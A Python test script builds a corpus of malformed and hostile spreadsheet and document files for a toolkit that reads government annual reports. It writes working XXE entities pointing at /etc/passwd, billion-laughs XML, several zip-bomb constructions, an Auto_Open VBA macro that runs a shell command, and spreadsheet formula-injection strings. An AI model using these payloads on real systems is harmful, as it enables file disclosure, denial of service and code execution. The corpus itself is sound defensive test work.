"""Build the hostile-input corpus: malformed, hostile and foreign files, made from code.

Every file is derived from one clean standard workbook written by the toolkit (or from nothing):
no opaque binaries are committed. What each file must give is in ``manifest.json`` beside this
script (the finding codes, those that must not be given, whether data is read, whether the
values are the clean ones).

    python tests/hostile/make_corpus.py OUT_DIR      # writes the files and a copy of the manifest

Library use (tests/test_hostile.py): ``build_corpus(out_dir) -> Corpus``.

Cases that need LibreOffice (.xls, .ods and WPS .et made from the workbook) are left out when
``soffice`` is missing (``Corpus.skipped`` says which); the encrypted workbook made with
``msoffcrypto-tool`` likewise (a hand-built encrypted container is always there).
"""

from __future__ import annotations

import io
import json
import os
import random
import shutil
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

HERE = Path(__file__).resolve().parent
TESTS = HERE.parent
REPO = TESTS.parent
for _p in (str(REPO), str(TESTS)):
    if _p not in sys.path:
        sys.path.insert(0, _p)

MANIFEST = HERE / "manifest.json"
UNIT = "蓼堤镇人民政府"
YEAR = 2024
FORMAT = "2021"


# ---------------------------------------------------------------- the clean workbook


@dataclass
class Base:
    """The clean workbook every damaged file is made from, and what reading it gives."""

    path: Path
    data: bytes
    values: dict
    soffice: dict[str, bytes] = field(default_factory=dict)  # "xls", "ods" -> bytes (when available)

    def part(self, sheet: str) -> str:
        """The zip entry of a sheet (through the workbook's relationships)."""
        from toolkit.workbook.source import open_source

        with open_source(self.path) as source:
            return source._parts.sheet_parts[sheet]


def make_base(directory: Path, *, soffice: bool = True) -> Base:
    from check_helpers import clean_report
    from toolkit.formats import load_format
    from toolkit.workbook.writer import write_workbook

    directory.mkdir(parents=True, exist_ok=True)
    fmt = load_format(FORMAT)
    report = clean_report(fmt, 5, unit=UNIT, year=YEAR)
    report.narrative["problems.text"] = "一是公开内容不够全面。"
    report.info = {"filler": "张三", "phone": "0370-8480007"}
    path = directory / f"{UNIT}.xlsx"
    write_workbook(path, fmt, unit=UNIT, year=YEAR, data=report)
    base = Base(path, path.read_bytes(), dict(report.values))
    if soffice:
        try:
            from soffice import SOFFICE, soffice_convert
        except ImportError:
            SOFFICE = None
        if SOFFICE is not None:
            for to in ("xls", "ods"):
                [out] = soffice_convert([path], directory / f"soffice-{to}", to=to)
                base.soffice[to] = out.read_bytes()
    return base


# ---------------------------------------------------------------- containers made by hand


def rezip(data: bytes, change: dict | None = None, drop: tuple = (), add: dict | None = None,
          stored: bool = False) -> bytes:
    """A copy of a zip container with entries replaced (``name -> bytes | fn(bytes)``), dropped
    or added; entries keep their order."""
    out = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", method) as zout:
        for info in zin.infolist():
            if info.filename in drop:
                continue
            content = zin.read(info.filename)
            new = (change or {}).get(info.filename)
            if new is not None:
                content = new(content) if callable(new) else new
            zout.writestr(info.filename, content)
        for name, content in (add or {}).items():
            zout.writestr(name, content)
    return out.getvalue()


def zip_of(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as zf:
        for name, content in entries.items():
            zf.writestr(name, content)
    return out.getvalue()


def set_declared_size(data: bytes, name: str, size: int) -> bytes:
    """Rewrite the uncompressed size of entry ``name`` in its local header and the central
    directory (a zip that lies about what it holds)."""
    blob = bytearray(data)
    for sig, name_len_off, name_off, size_off in ((b"PK\x01\x02", 28, 46, 24), (b"PK\x03\x04", 26, 30, 22)):
        start = 0
        while (i := blob.find(sig, start)) >= 0:
            n = struct.unpack_from("<H", blob, i + name_len_off)[0]
            if blob[i + name_off:i + name_off + n] == name.encode():
                struct.pack_into("<I", blob, i + size_off, size)
            start = i + 4
    return bytes(blob)


def overlapping_zip(copies: int, payload_size: int, declared: int | None = None) -> bytes:
    """A "non-recursive" zip bomb: one deflated local file, ``copies`` central-directory entries
    pointing at it (declaring ``declared`` bytes each, default the truth), plus a workbook part
    so the container looks real."""
    head = zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
    with zipfile.ZipFile(io.BytesIO(head)) as zf:
        infos = zf.infolist()
    body = bytearray(head[: min(i.header_offset for i in infos) + sum(
        30 + len(i.filename.encode()) + i.compress_size for i in infos)])
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = comp.compress(b"\0" * payload_size) + comp.flush()
    crc = zlib.crc32(b"\0" * payload_size)
    offset = len(body)
    name = b"xl/media/a.bin"
    declared = payload_size if declared is None else declared
    body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(packed), declared, len(name), 0)
    body += name + packed
    central = bytearray()
    with zipfile.ZipFile(io.BytesIO(head)) as zf:
        for info in zf.infolist():
            n = info.filename.encode()
            central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, info.compress_type, 0, 0, info.CRC,
                                   info.compress_size, info.file_size, len(n), 0, 0, 0, 0, 0, info.header_offset) + n
    for k in range(copies):
        n = f"xl/media/a{k}.bin".encode()
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(packed), declared,
                               len(n), 0, 0, 0, 0, 0, offset) + n
    total = len(infos) + copies
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, total, total, len(central), len(body), 0)
    return bytes(body + central + eocd)


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (version 3) holding ``streams`` (each padded to 4096 bytes,
    so that no mini stream is needed)."""
    sector, end, free, fat_mark = 512, 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    datas = [(name, content + b"\0" * (-len(content) % 4096 or (4096 if not content else 0)))
             for name, content in streams.items()]
    fat = [fat_mark, end]
    starts = []
    for _, content in datas:
        first = len(fat)
        starts.append(first)
        n = len(content) // sector
        fat += [first + i + 1 for i in range(n - 1)] + [end]
    n_fat = -(-(len(fat) + 1) // (sector // 4))
    assert n_fat == 1, "cfb(): streams too large for this minimal writer"
    fat += [free] * (sector // 4 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1)
                + struct.pack("<III", free, right, child) + b"\0" * 36 + struct.pack("<IQ", start, size))

    entries = [entry("Root Entry", 5, 1, free, end, 0)]
    for i, ((name, content), start) in enumerate(zip(datas, starts), 1):
        entries.append(entry(name, 2, free, i + 1 if i < len(datas) else free, start, len(content)))
    directory = b"".join(entries)
    directory += b"\0" * (-len(directory) % sector)
    assert len(directory) == sector, "cfb(): at most 3 streams"
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
              + struct.pack("<109I", 0, *([free] * 108)))
    return header + struct.pack(f"<{sector // 4}I", *fat) + directory + b"".join(d for _, d in datas)


def _record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def biff8(cells: dict[tuple[int, int], object], *, sheet: str = "Sheet1", filepass: bool = False,
          damage: bool = False) -> bytes:
    """A small BIFF8 (.xls) workbook written record by record: one sheet of numbers and text.
    ``filepass`` adds the FILEPASS record of a password-protected file; ``damage`` gives a
    cell record an impossible length."""
    bof_globals = _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06))
    name = sheet.encode("utf-16-le")
    boundsheet_len = 4 + 8 + 2 + len(name)
    extra = _record(0x002F, struct.pack("<HHH", 1, 1, 1) + b"\0" * 48) if filepass else b""
    codepage = _record(0x0042, struct.pack("<H", 1200))
    head_len = len(bof_globals) + len(extra) + len(codepage) + boundsheet_len + 4
    boundsheet = _record(0x0085, struct.pack("<IBBBB", head_len, 0, 0, len(sheet), 1) + name)
    globals_ = bof_globals + extra + codepage + boundsheet + _record(0x000A, b"")
    body = _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0, 0x06))
    rows = [r for r, _ in cells] or [0]
    cols = [c for _, c in cells] or [0]
    body += _record(0x0200, struct.pack("<IIHHH", min(rows), max(rows) + 1, min(cols), max(cols) + 1, 0))
    for (r, c), value in sorted(cells.items()):
        if isinstance(value, str):
            text = value.encode("utf-16-le")
            body += _record(0x0204, struct.pack("<HHHHB", r, c, 0x0F, len(value), 1) + text)
        else:
            body += _record(0x0203, struct.pack("<HHHd", r, c, 0x0F, float(value)))
    if damage:
        body += struct.pack("<HH", 0x0203, 0xFFFF) + b"\x07" * 64
    body += _record(0x000A, b"")
    return cfb({"Workbook": globals_ + body})


def docx_bytes(paragraphs: list[str]) -> bytes:
    import docx

    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def openpyxl_edit(data: bytes, change: Callable) -> bytes:
    """The workbook changed with openpyxl (as a township's own editing might)."""
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(data))
    change(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def strip_meta(wb) -> None:
    """What a re-save by another program may leave: no meta sheet, names or custom properties."""
    from openpyxl.packaging.custom import CustomPropertyList
    from toolkit.layout import workbook_plan

    del wb[workbook_plan().meta_sheet]
    for name in list(wb.defined_names):
        del wb.defined_names[name]
    wb.custom_doc_props = CustomPropertyList()


XXE = b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10)) + b"]>")


def with_prolog(prolog: bytes, entity: bytes | None = None) -> Callable[[bytes], bytes]:
    """Replace an XML part's declaration with ``prolog`` (a DTD), optionally using ``entity`` in
    the first text node."""

    def change(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
        if entity:
            body = body.replace(b"<t>", b"<t>" + entity, 1).replace(b"<v>", b"<v>" + entity, 1)
        return prolog + body
    return change


# ---------------------------------------------------------------- the cases


Builder = Callable[[Path, Base], None]
CASES: dict[str, Builder] = {}
NEEDS: dict[str, str] = {}  # case -> what it needs ("soffice", "msoffcrypto")


def case(name: str, needs: str | None = None) -> Callable[[Builder], Builder]:
    def register(func: Builder) -> Builder:
        assert name not in CASES, name
        CASES[name] = func
        if needs:
            NEEDS[name] = needs
        return func
    return register


def bytes_case(name: str, make: Callable[[Base], bytes], needs: str | None = None) -> None:
    case(name, needs)(lambda path, base: path.write_bytes(make(base)))


def _sheet_change(sheet: str, change: Callable[[bytes], bytes]) -> Callable[[Base], bytes]:
    return lambda base: rezip(base.data, {base.part(sheet): change})


# -- not a workbook at all
bytes_case("empty.xlsx", lambda b: b"")
bytes_case("random.xlsx", lambda b: random.Random(7).randbytes(20000))
bytes_case("random-after-zip-magic.xlsx", lambda b: b"PK\x03\x04" + random.Random(8).randbytes(20000))
bytes_case("random-after-ole-magic.xls", lambda b: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(9).randbytes(4000))
bytes_case("word.xlsx", lambda b: docx_bytes(["关于报送年度报告的通知"]))
bytes_case("word97.xls", lambda b: cfb({"WordDocument": b"\xec\xa5" + b"x" * 100}))
bytes_case("report.pdf.xlsx", lambda b: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n")
bytes_case("list-gbk.csv.xlsx", lambda b: "单位名称,本年新收\n蓼堤镇人民政府,12\n".encode("gbk"))
bytes_case("list-utf8.csv.xlsx", lambda b: "\ufeff单位名称,本年新收\n蓼堤镇人民政府,12\n".encode("utf-8"))
bytes_case("list-utf16.csv.xlsx", lambda b: "\ufeff单位名称\t本年新收\r\n蓼堤镇人民政府\t12\r\n".encode("utf-16-le"))
bytes_case("web-page.xls", lambda b: "<html><body><table><tr><td>本年新收</td><td>12</td></tr></table></body></html>".encode())
bytes_case("excel2003.xml.xls", lambda b: (
    b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
    b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"/></Workbook>'))
bytes_case("plain-zip.xlsx", lambda b: zip_of({"说明.txt": "请查收".encode()}))
bytes_case("slides.xlsx", lambda b: zip_of({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"}))
bytes_case("text-document.ods", lambda b: zip_of({"mimetype": b"application/vnd.oasis.opendocument.text",
                                                  "content.xml": b"<office:document-content/>"}, zipfile.ZIP_STORED))
bytes_case("picture.png.xlsx", lambda b: b"\x89PNG\r\n\x1a\n" + random.Random(10).randbytes(3000))
bytes_case("xlsb-without-data.xlsb", lambda b: zip_of({"[Content_Types].xml": b"<Types/>",
                                                       "xl/workbook.bin": random.Random(11).randbytes(300)}))


@case("folder.xlsx")
def _folder(path: Path, base: Base) -> None:
    path.mkdir()
    (path / "inside.txt").write_text("这是一个文件夹", encoding="utf-8")


@case("broken-link.xlsx")
def _broken_link(path: Path, base: Base) -> None:
    path.symlink_to(path.parent / "no-such-target.xlsx")


@case("fifo.xlsx")
def _fifo(path: Path, base: Base) -> None:
    os.mkfifo(path)  # opening it for reading would block: must be refused before open()


@case("fifo.txt")
def _fifo_report(path: Path, base: Base) -> None:
    os.mkfifo(path)  # a published-report reader must refuse it too


@case("link-loop.xlsx")
def _link_loop(path: Path, base: Base) -> None:
    other = path.parent / "link-loop-other.xlsx"
    path.symlink_to(other.name)
    other.symlink_to(path.name)


@case("below-a-file.xlsx")
def _below_a_file(path: Path, base: Base) -> None:
    """A path whose open() fails (ENOTDIR): the corpus entry is a file, the path checked lies below it."""
    path.write_bytes(b"not a folder")


# -- damaged workbooks
bytes_case("truncated-half.xlsx", lambda b: b.data[: len(b.data) // 2])
bytes_case("truncated-tail.xlsx", lambda b: b.data[:-200])
bytes_case("sheet-xml-missing.xlsx", lambda b: rezip(b.data, drop=(b.part("表三"),)))
bytes_case("sheet-xml-cut.xlsx", _sheet_change("表三", lambda x: x[: x.index(b"</sheetData>") // 2]))
bytes_case("sheet-xml-corrupt.xlsx", _sheet_change("表三", lambda x: x.replace(b"<sheetData>", b"<sheetData><row <c \x01>", 1)))
bytes_case("sheet-xml-empty.xlsx", _sheet_change("表三", lambda x: b""))
bytes_case("workbook-xml-missing.xlsx", lambda b: rezip(b.data, drop=("xl/workbook.xml",)))
bytes_case("shared-strings-missing.xlsx", lambda b: rezip(b.data, drop=("xl/sharedStrings.xml",)))


def _crc_broken(base: Base) -> bytes:
    blob = bytearray(rezip(base.data))
    with zipfile.ZipFile(io.BytesIO(bytes(blob))) as zf:
        info = zf.getinfo(base.part("表三"))
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for k in range(start + info.compress_size // 3, start + info.compress_size // 3 + 8):
        blob[k] ^= 0x5A
    return bytes(blob)


bytes_case("compressed-data-corrupt.xlsx", _crc_broken)


def _duplicate_entry(base: Base) -> bytes:
    """Two entries with the sheet's name: zip readers disagree on which one counts."""
    part = base.part("表三")
    with zipfile.ZipFile(io.BytesIO(base.data)) as zf:
        xml = zf.read(part)
    other = xml.replace(b"<v>", b"<v>9", 5)
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return rezip(base.data, add={part: other})


bytes_case("duplicate-entry.xlsx", _duplicate_entry)
bytes_case("t3-sheet-deleted.xlsx", lambda b: openpyxl_edit(b.data, lambda wb: wb.remove(wb["表三"])))


def _renamed(wb) -> None:
    strip_meta(wb)
    for i, ws in enumerate(wb.worksheets, 1):
        ws.title = f"Sheet{i}"


def _reordered(wb) -> None:
    wb._sheets.reverse()
    wb.active = 0


def _unmerged(wb) -> None:
    for ws in wb.worksheets:
        for rng in list(ws.merged_cells.ranges):
            ws.unmerge_cells(str(rng))


def _rows_shifted(wb) -> None:
    """表三's numbers moved one row down under their labels (typed into the wrong rows)."""
    from toolkit.formats import load_format
    from toolkit.layout import cell_addresses

    fmt = load_format(FORMAT)
    where = cell_addresses(fmt)
    ws = wb["表三"]
    cells = [where[c.id] for c in fmt.input_cells if c.table.id == "t3"]
    values = {(a.row, a.col): ws.cell(a.row, a.col).value for a in cells}
    for (r, c) in values:
        ws.cell(r, c).value = None
    for (r, c), v in values.items():
        if (r + 1, c) in values:
            ws.cell(r + 1, c).value = v


bytes_case("sheets-renamed.xlsx", lambda b: openpyxl_edit(b.data, _renamed))
bytes_case("sheets-reordered.xlsx", lambda b: openpyxl_edit(b.data, _reordered))
bytes_case("headers-unmerged.xlsx", lambda b: openpyxl_edit(b.data, _unmerged))
bytes_case("values-in-wrong-rows.xlsx", lambda b: openpyxl_edit(b.data, _rows_shifted))

# -- old and foreign formats
bytes_case("legacy.xls", lambda b: b.soffice["xls"], needs="soffice")
bytes_case("wps-biff.et", lambda b: b.soffice["xls"], needs="soffice")
bytes_case("wps-ooxml.et", lambda b: b.data)
bytes_case("libreoffice.ods", lambda b: b.soffice["ods"], needs="soffice")
bytes_case("macros.xlsm", lambda b: rezip(b.data, {"[Content_Types].xml": lambda x: x.replace(
    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")},
    add={"xl/vbaProject.bin": cfb({"VBA": b"Sub Auto_Open()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n"})}))
bytes_case("handmade.xls", lambda b: biff8({(0, 0): "单位名称", (0, 1): "本年新收", (1, 0): UNIT, (1, 1): 12}))
bytes_case("handmade-damaged.xls", lambda b: biff8({(0, 0): "单位名称", (1, 1): 12}, damage=True))
bytes_case("password.xls", lambda b: biff8({(0, 0): "单位名称"}, filepass=True))
bytes_case("encrypted-container.xlsx", lambda b: cfb({
    "EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40) + b"\0" * 200,
    "EncryptedPackage": struct.pack("<Q", len(b.data)) + random.Random(12).randbytes(len(b.data) // 4)}))
bytes_case("encrypted-zip-entries.xlsx", lambda b: _zip_encrypted_flag(b.data))


def _zip_encrypted_flag(data: bytes) -> bytes:
    blob = bytearray(data)
    for sig, off in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        start = 0
        while (i := blob.find(sig, start)) >= 0:
            blob[i + off] |= 0x01
            start = i + 4
    return bytes(blob)


@case("encrypted-office.xlsx", needs="msoffcrypto")
def _encrypted(path: Path, base: Base) -> None:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(base.data)).encrypt("nianbao-2024", out)
    path.write_bytes(out.getvalue())


# -- attacks on the XML
bytes_case("laughs-in-sheet.xlsx", _sheet_change("表三", with_prolog(LAUGHS, b"&lol9;")))
bytes_case("laughs-in-shared-strings.xlsx", lambda b: rezip(b.data, {"xl/sharedStrings.xml": with_prolog(LAUGHS, b"&lol9;")}))
bytes_case("laughs-in-styles.xlsx", lambda b: rezip(b.data, {"xl/styles.xml": with_prolog(LAUGHS)}))
bytes_case("xxe-workbook.xlsx", lambda b: rezip(b.data, {"xl/workbook.xml": with_prolog(XXE)}))
bytes_case("xxe-shared-strings.xlsx", lambda b: rezip(b.data, {"xl/sharedStrings.xml": with_prolog(XXE, b"&x;")}))
bytes_case("xxe-content-types.xlsx", lambda b: rezip(b.data, {"[Content_Types].xml": with_prolog(XXE)}))
bytes_case("xxe-core-properties.xlsx", lambda b: rezip(b.data, {"docProps/core.xml": with_prolog(XXE)}))
bytes_case("dtd-after-long-comment.xlsx", lambda b: rezip(b.data, {"xl/sharedStrings.xml": with_prolog(
    b'<?xml version="1.0"?><!--' + b"-" .join([b"x" * 1000] * 300) + b"-->" + LAUGHS[LAUGHS.index(b"<!DOCTYPE"):],
    b"&lol9;")}))
bytes_case("laughs-in-ods.ods", lambda b: rezip(b.soffice["ods"], {"content.xml": with_prolog(LAUGHS)}), needs="soffice")
bytes_case("laughs-in-word-report.docx", lambda b: rezip(docx_bytes(["蓼堤镇人民政府2024年政府信息公开工作年度报告"]),
                                                         {"word/document.xml": with_prolog(LAUGHS, b"&lol9;")}))

# -- zip bombs


def _zeros() -> bytes:
    """Zeros just over the cap of one entry (128 MB)."""
    return bytes(130 * 1024 * 1024)


bytes_case("bomb-declared-size.xlsx", lambda b: set_declared_size(
    rezip(b.data, add={"xl/media/image1.bin": b"\0" * 4096}), "xl/media/image1.bin", 0xFFFFFFF0))
bytes_case("bomb-ratio.xlsx", lambda b: rezip(b.data, add={"xl/media/image1.bin": bytes(16 * 1024 * 1024)}))
bytes_case("bomb-lying-size.xlsx", lambda b: set_declared_size(
    rezip(b.data, add={"xl/media/image1.bin": _zeros()}), "xl/media/image1.bin", 1000))
bytes_case("bomb-entry-count.xlsx", lambda b: rezip(b.data, add={f"xl/media/p{i}.bin": b"" for i in range(2500)}))
bytes_case("bomb-overlapping.xlsx", lambda b: overlapping_zip(1500, 256 * 1024))
bytes_case("bomb-overlapping-lying.xlsx", lambda b: overlapping_zip(1500, 130 * 1024 * 1024, declared=1000))
bytes_case("bomb-in-word-report.docx", lambda b: set_declared_size(rezip(
    docx_bytes(["蓼堤镇人民政府2024年政府信息公开工作年度报告"]), add={"word/media/big.xml": _zeros()}),
    "word/media/big.xml", 1000))

# -- huge sheets and ranges
_FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'


def _claim_million_rows(xml: bytes) -> bytes:
    import re

    return re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml, count=1)


bytes_case("million-rows.xlsx", _sheet_change("表三", lambda x: _claim_million_rows(x.replace(b"</sheetData>", _FAR))))
bytes_case("dimension-claims-million-rows.xlsx", _sheet_change("表三", _claim_million_rows))
bytes_case("far-rows-without-refs.xlsx", _sheet_change("表三", lambda x: x.replace(b"</sheetData>", b"".join(
    b'<row spans="%d:%d"/>' % (i % 97 + 1, i % 89 + 100) for i in range(100_000))
    + b"<row>" + b"<c/>" * 16_000 + b'<c t="inlineStr"><is><t>x</t></is></c></row></sheetData>')))
bytes_case("far-cell-after-sheetdata.xlsx", _sheet_change("表三", lambda x: x.replace(b"</worksheet>", (
    b'<extLst><ext uri="{00000000-0000-0000-0000-00000000NB01}"><row r="1048576"><c r="XFD1048576"><f>A1</f>'
    b"<v>1</v></c></row></ext></extLst></worksheet>"))))
bytes_case("huge-merge.xlsx", _sheet_change("表三", lambda x: x.replace(
    b"<mergeCells", b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><mergeCells', 1)))
bytes_case("many-merges.xlsx", _sheet_change("表三", lambda x: x.replace(
    b"<mergeCells", b"<mergeCells>" + b"".join(b'<mergeCell ref="A%d:XFD%d"/>' % (r, r) for r in range(40, 50040))
    + b"</mergeCells><mergeCells", 1)))


def _flood(base: Base) -> bytes:
    """表三 filled with numbers below and right of the table: 610,000 cells, all within the
    row and column caps."""
    rows = b"".join(b'<row r="%d">' % r + b"".join(b'<c r="%s%d"><v>%d</v></c>' % (col, r, r % 97)
                                                   for col in _COLS) + b"</row>" for r in range(60, 2500))
    return rezip(base.data, {base.part("表三"): lambda x: x.replace(b"</sheetData>", rows + b"</sheetData>")})


_COLS = [("%s%s" % (a, b)).encode() for a in ("", "A", "B", "C", "D", "E", "F", "G", "H", "I") for b in
         "ABCDEFGHIJKLMNOPQRSTUVWXYZ"][30:250]
bytes_case("cell-flood.xlsx", _flood)
bytes_case("unclosed-tags.xlsx", _sheet_change("表三", lambda x: x.replace(
    b"</sheetData>", b'<c r="AA1" ' + b"<c a " * 400_000 + b"</sheetData>")))
bytes_case("deep-nesting.xlsx", _sheet_change("表三", lambda x: x.replace(
    b"</sheetData>", b"</sheetData>" + b"<x>" * 50_000 + b"</x>" * 50_000)))
_BLOCK = "".join(random.Random(13).choice("政府信息公开年报") for _ in range(40_000)).encode()
bytes_case("huge-text-cell.xlsx", lambda b: rezip(b.data, {"xl/sharedStrings.xml": lambda x: x.replace(
    b"<t>", b"<t>" + _BLOCK * 100, 1)}))

# -- text that must stay text
_INJECT = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'


def _injected(wb) -> None:
    from toolkit.formats import load_format
    from toolkit.layout import cell_addresses, info_rows, workbook_plan

    fmt = load_format(FORMAT)
    where = cell_addresses(fmt)
    ws = wb["表三"]
    for cell_id, text in (("t3.new.natural", "=1+1"), ("t3.new.business", "+12"), ("t3.new.research", "-3"),
                          ("t3.new.nonprofit", "@SUM(A1:A9)")):
        a = where[cell_id]
        ws.cell(a.row, a.col).value = text
        ws.cell(a.row, a.col).data_type = "s"
    info = wb[workbook_plan().info_sheet]
    for row, key, _ in info_rows():
        if key == "unit":
            info.cell(row, 2).value = _INJECT
            info.cell(row, 2).data_type = "s"


bytes_case("formula-injection.xlsx", lambda b: openpyxl_edit(b.data, _injected))
bytes_case("[bold]粗体[blink] 名称.xlsx", lambda b: b.data)
bytes_case("名" * 60 + ".xlsx", lambda b: b.data)
bytes_case("line\nbreak.xlsx", lambda b: b.data)

# -- published-report files checked alongside
bytes_case("report-binary.txt", lambda b: random.Random(14).randbytes(5000))
bytes_case("report-deep.html", lambda b: ("<html><body>" + "<div>" * 5_000 + "政府信息公开" + "</div>" * 5_000
                                          + "</body></html>").encode())
bytes_case("report-is-a-workbook.docx", lambda b: b.data)


# ---------------------------------------------------------------- building


@dataclass
class Corpus:
    directory: Path
    base: Base
    files: dict[str, Path]  # case name -> the path to check
    manifest: dict[str, dict]
    skipped: dict[str, str]  # case name -> why it was not built


def load_manifest() -> dict[str, dict]:
    return json.loads(MANIFEST.read_text(encoding="utf-8"))


def build_corpus(directory: str | Path, *, only: list[str] | None = None) -> Corpus:
    """Write every case into ``directory`` (created; must be empty or new)."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    base = make_base(directory / "_base")
    have = {"soffice": bool(base.soffice), "msoffcrypto": _have("msoffcrypto")}
    files, skipped = {}, {}
    out = directory / "files"
    out.mkdir(exist_ok=True)
    for name, build in CASES.items():
        if only is not None and name not in only:
            continue
        need = NEEDS.get(name)
        if need and not have[need]:
            skipped[name] = f"needs {need}"
            continue
        path = out / name
        build(path, base)
        files[name] = path / "inside.xlsx" if name == "below-a-file.xlsx" else path
    return Corpus(directory, base, files, load_manifest(), skipped)


def _have(module: str) -> bool:
    try:
        __import__(module)
    except ImportError:
        return False
    return True


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print(__doc__.strip().splitlines()[0])
        print("usage: python tests/hostile/make_corpus.py OUT_DIR")
        return 2
    corpus = build_corpus(argv[0])
    shutil.copy(MANIFEST, corpus.directory / "manifest.json")
    print(f"{len(corpus.files)} files in {corpus.directory / 'files'}")
    for name, why in corpus.skipped.items():
        print(f"skipped {name}: {why}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
